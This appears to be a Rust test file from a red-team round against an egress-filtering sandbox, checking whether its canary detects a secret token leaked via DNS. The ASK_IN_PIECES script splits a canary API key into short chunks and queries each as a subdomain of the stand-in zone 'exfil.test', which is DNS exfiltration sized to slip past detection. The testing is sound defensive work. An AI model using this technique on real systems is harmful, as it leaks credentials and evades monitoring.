//! Red team round 4 on `egress-fence exec`: CMD (as `--user nobody`, and as `--user root`
//! without capabilities) against the canary, pasta and what exec leaves to the filesystem.

use crate::common::exec::*;
use crate::common::*;

/// A policy allowing every name under `exfil.test` (the adversary's zone: under an allowed
/// wildcard the threat model lets it own the names), beside [`policy_text`]'s own.
fn wildcard_policy(w: &World) -> String {
    let text = policy_text().replace(
        "allow:\n",
        "allow:\n  - domain: \"**.exfil.test\"\n    ports: [443]\n",
    );
    w.write_file("wildcard.yaml", &text)
        .to_str()
        .expect("utf-8 path")
        .to_string()
}

/// CMD asks its token's random part in pieces of 11 characters (one fewer than a fragment
/// the canary looks for in a single question), each as the first label of a name.
const ASK_IN_PIECES: &str = r#"
r=${CANARY_API_KEY#ck_live_}
for piece in $(echo "$r" | fold -w 11); do
    dig +time=1 +tries=1 "$piece.exfil.test" >/dev/null; echo "asked $piece"
done
exit 0"#;

/// A token split into pieces shorter than the canary's fragment trips when the guard
/// refuses the pieces (round 3 joined the refused questions' first labels), but not when
/// the policy lets them through: the questions that left (pasta's capture) were searched one
/// by one, never joined. So the run where the token really left the host, to the
/// authoritative servers of an allowed wildcard, exits with CMD's code and "the canary's
/// token was in no DNS question", while the same pieces refused trip.
#[test]
fn the_canary_trips_on_a_token_sent_upstream_in_short_pieces() {
    let w = World::new();
    let refused_policy = setup(&w);
    let refused = exec(
        &w,
        &refused_policy,
        &["--user", "nobody", "--canary"],
        ASK_IN_PIECES,
    );
    assert_eq!(refused.status.code(), Some(99), "{}", show(&refused));

    let policy = wildcard_policy(&w);
    let out = exec(
        &w,
        &policy,
        &["--user", "nobody", "--canary"],
        ASK_IN_PIECES,
    );
    let pieces: Vec<String> = stdout_of(&out)
        .lines()
        .filter_map(|l| l.strip_prefix("asked "))
        .map(str::to_string)
        .collect();
    assert_eq!(pieces.len(), 3, "{}", show(&out));
    let asked: Vec<String> = w
        .dns_queries()
        .iter()
        .map(|n| n.to_ascii_lowercase())
        .collect();
    for piece in &pieces {
        assert!(
            asked.iter().any(|n| n.starts_with(&format!("{piece}."))),
            "{piece} did not reach the resolver: {asked:?}\n{}",
            show(&out)
        );
    }
    assert_eq!(
        out.status.code(),
        Some(99),
        "the token left in pieces and the canary did not trip\n{}",
        show(&out)
    );
}
